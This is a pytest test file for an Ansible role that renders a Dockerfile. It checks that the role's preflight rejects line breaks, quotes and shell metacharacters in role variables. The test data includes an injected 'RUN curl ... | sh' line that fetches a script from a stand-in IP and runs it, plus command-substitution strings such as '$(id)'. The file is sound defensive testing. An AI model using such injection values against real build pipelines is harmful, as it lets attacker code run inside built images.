# Copyright: gb10.serving maintainers
# Apache-2.0
"""Issue 37, item 4: every role variable roles/serving_image writes into the Dockerfile is checked by the preflight
(roles/serving_image/tasks/preflight.yml) before the build writes it: the pins and the index URL by the
serving_image_input_problems filter, the base, the interpreter, the CUDA home, the library names and the index URL's
shell signs by the one-word check. Both tasks run here by the real ansible-playbook, each variable tried with a line
break and a quote."""

from __future__ import annotations

import json
import re
from pathlib import Path

import jinja2
import jinja2.meta
import pytest
import yaml
from task_file_runner import run_task_file

from ansible_collections.gb10.serving.plugins.module_utils import _serving_image as si

ROLE = Path(__file__).resolve().parents[4] / "roles" / "serving_image"
DEFAULTS = yaml.safe_load((ROLE / "defaults" / "main.yml").read_text())
BASE = "registry:5000/gb10/vllm@sha256:" + "0123456789abcdef" * 4
INPUTS = "Refuse pins or an index URL the Dockerfile cannot hold as they are"
WORDS = "Refuse a value the Dockerfile could not hold as one shell word"
BAD = {"a line break": "\nRUN curl -s http://203.0.113.66/x | sh", "a quote": '"'}
GOOD = {
    "serving_image_base_ref": BASE,
    "serving_image_ray_version": "2.60.0",
    "serving_image_index_url": "https://pypi.org/simple",
    "serving_image_python": "python3",
    "serving_image_cuda_home": "/usr/local/cuda",
}


def render(**given):
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(ROLE / "templates"), undefined=jinja2.StrictUndefined, keep_trailing_newline=True
    )
    variables = {**DEFAULTS, **GOOD, "ansible_managed": "Ansible managed", **given}
    return env.get_template("Dockerfile.j2").render(**variables)


def checks(tmp_path, **given):
    """ansible-playbook's output of the preflight's two checks of the Dockerfile's values, the role's own tasks, on
    localhost; each goes on after a refusal (ignore_errors) so one run shows both."""
    tasks = yaml.safe_load((ROLE / "tasks" / "preflight.yml").read_text())
    chosen = [{**t, "ignore_errors": True} for t in tasks if t["name"] in (INPUTS, WORDS)]
    assert len(chosen) == 2
    tasks_file = tmp_path / "checks.yml"
    tasks_file.write_text(json.dumps(chosen))
    rc, out = run_task_file(tmp_path, tasks_file, {**DEFAULTS, **GOOD, **given}, name="The Dockerfile's checks")
    assert rc == 0, out[-3000:]  # a refusal is ignored, so the next check runs too
    return out


def refusals(out):
    """The msg of each failed task (the JSON after FAILED! =>)."""
    return [json.loads(found)["msg"] for found in re.findall(r"FAILED! => (\{.*\})$", out, re.M)]


def test_pitfall_newline_in_serving_image_python_adds_instructions(tmp_path):
    # The interpreter is written bare at the start of two RUN lines: a line break ends the RUN and the rest is an
    # instruction of its own (here a script fetched into the image).
    python = "python3" + BAD["a line break"]
    dockerfile = render(serving_image_python=python)
    assert re.search(r"^RUN curl -s http://203\.0\.113\.66/x \| sh -m pip install", dockerfile, re.M)
    out = checks(tmp_path, serving_image_python=python)
    msgs = refusals(out)
    assert len(msgs) == 1, out[-3000:]
    assert msgs[0].startswith(f"localhost: serving_image_python is {json.dumps(python)}; set an interpreter"), msgs
    assert "e.g. python3" in msgs[0]


@pytest.mark.parametrize("kind", sorted(BAD))
def test_each_variable_the_dockerfile_is_written_with_refuses_a_line_break_and_a_quote(tmp_path, kind):
    bad = BAD[kind]
    given = {
        "serving_image_base_ref": BASE + bad,
        "serving_image_ray_version": "2.60.0" + bad,
        "serving_image_extra_pins": {"numpy" + bad: "2.1.0", "einops": "0.8.1" + bad},
        "serving_image_index_url": "https://pypi.org/simple" + bad,
        "serving_image_python": "python3" + bad,
        "serving_image_cuda_home": "/usr/local/cuda" + bad,
        "serving_image_soname_links": ["nvrtc" + bad],
    }
    out = checks(tmp_path, **given)
    inputs, words = refusals(out)
    # the filter's words (plugins/module_utils/_serving_image_inputs.py)
    assert f"serving_image_ray_version 'ray': {given['serving_image_ray_version']!r}" in inputs
    assert f"serving_image_extra_pins {'numpy' + bad!r}" in inputs
    assert f"serving_image_extra_pins 'einops': {'0.8.1' + bad!r}" in inputs
    assert f"serving_image_index_url {given['serving_image_index_url']!r}" in inputs
    # the one-word check's, naming the node
    assert words.startswith("localhost: "), words
    for name in (
        "serving_image_base_ref",
        "serving_image_python",
        "serving_image_cuda_home",
        "serving_image_index_url",
    ):
        assert f"{name} is {json.dumps(given[name])}; set " in words, words
    assert f"serving_image_soname_links holds {json.dumps('nvrtc' + bad)}; set each" in words


def test_a_trailing_line_break_in_the_base_is_refused_by_the_digest_rule_and_here(tmp_path):
    # The digest rule's pattern ends in \Z (Python's `$` matched before a trailing line break and let it through).
    assert si.ref_problem(BASE + "\n") is not None
    out = checks(tmp_path, serving_image_base_ref=BASE + "\n")
    assert any("serving_image_base_ref" in refusal for refusal in refusals(out)), refusals(out)


@pytest.mark.parametrize("sign", [";", "&", "|", "$(id)", "`id`", "?", "*", "("])
def test_shell_signs_in_the_index_url_are_refused(tmp_path, sign):
    # urlsplit takes them (the filter passes them); the RUN line's shell would not.
    url = f"https://pypi.org/simple{sign}id"
    out = checks(tmp_path, serving_image_index_url=url)
    assert any(f"serving_image_index_url is {json.dumps(url)}; set an http(s) URL" in m for m in refusals(out)), out


def test_values_at_the_edge_of_the_patterns_pass_and_render_one_instruction_each(tmp_path):
    edge = {
        "serving_image_python": "/opt/venv/bin/python3.12",
        "serving_image_cuda_home": "/usr/local/cuda-13.0",
        "serving_image_soname_links": ["nvrtc", "stdc++", "cuda_rt-1"],
        "serving_image_index_url": "https://user:t%40k@pypi.example:8443/simple/,a=b+c~d",
        "serving_image_extra_pins": {"numpy": "2.1.0", "flash_attn": "2.8.3.post1"},
    }
    out = checks(tmp_path, **edge)
    assert refusals(out) == [], out[-3000:]
    instructions = [line.split()[0] for line in render(**edge).splitlines() if line and line[0] not in " #"]
    assert instructions == ["FROM", "LABEL", "RUN", "COPY", "RUN"], render(**edge)


def test_every_variable_the_dockerfile_writes_is_checked():
    parsed = jinja2.Environment().parse((ROLE / "templates" / "Dockerfile.j2").read_text())
    written = {n for n in jinja2.meta.find_undeclared_variables(parsed) if n.startswith("serving_image_")}
    tasks = yaml.safe_load((ROLE / "tasks" / "preflight.yml").read_text())
    words = {word[0] for word in next(t for t in tasks if t["name"] == WORDS)["vars"]["__serving_image_words"]}
    by_filter = {"serving_image_ray_version", "serving_image_extra_pins", "serving_image_index_url"}
    # serving_image_wheelhouse: only its length decides a branch, never written
    assert written == words | by_filter | {"serving_image_soname_links", "serving_image_wheelhouse"}
    assert sorted(p.name for p in (ROLE / "templates").iterdir()) == ["Dockerfile.j2"]
